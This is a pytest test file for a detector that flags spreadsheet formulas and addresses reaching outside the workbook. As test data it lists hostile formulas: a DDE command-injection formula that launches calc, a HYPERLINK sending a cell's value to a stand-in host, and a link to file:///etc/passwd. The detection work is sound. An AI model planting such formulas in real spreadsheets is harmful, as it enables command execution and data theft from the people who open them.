from __future__ import annotations

import pytest

from pipeline.adapters.ooxml.remote import is_outside, reaches_outside


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://x")',
        "_xlfn.WEBSERVICE(A1)",
        '_xlfn.IMAGE("https://x/a.png")',
        "[1]Sheet1!A1",
        "SUM([2]别的!A1:A9)",
        "'[3]费用 明细'!K7",
        "[4]!单价",
        "'C:\\报价\\[旧 报价.xlsx]Sheet1'!A1",
        'RTD("x",,"y")',
        "cmd|'/c calc'!A1",
        "MSEXCEL|'\\\\srv\\x.xls'!A1",
        'CUBEVALUE("c","m")',
        'HYPERLINK("http://x.cn/?"&A1,"看")',
        'HYPERLINK("\\\\srv\\共享\\x.xlsx")',
        'HYPERLINK("[别的.xlsx]Sheet1!A1")',
        'IF(A1="",HYPERLINK("file:///etc/passwd"),"")',
    ],
)
def test_formulas_that_reach_outside(formula: str) -> None:
    assert reaches_outside(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "",
        "SUM(A1:A9)",
        "_lists!$A$2",
        'IF(A1="|",1,2)',
        "'费用 明细'!K7",
        'IF(A1="见 [1]x!",1,2)',  # text is text
        '"WEBSERVICE("&A1',
        "表1[[#This Row],[1]]*2",
        "MY_IMAGE(A1)",
        'HYPERLINK("#费用明细!K7","看")',
        'HYPERLINK("mailto:a@b.cn")',
        'IF(A1="http://x",1,2)',  # an address that nothing opens
    ],
)
def test_ordinary_formulas(formula: str) -> None:
    assert not reaches_outside(formula)


@pytest.mark.parametrize("address", ["https://x.cn", "file:///x", "C:\\x.xlsx", "\\\\srv\\x", "//srv/x", "www.x.cn"])
def test_addresses_that_lead_outside(address: str) -> None:
    assert is_outside(address)


@pytest.mark.parametrize("address", ["", "#费用!A1", "费用明细!K7", "mailto:a@b.cn", "xl/media/image1.png"])
def test_addresses_that_do_not(address: str) -> None:
    assert not is_outside(address)
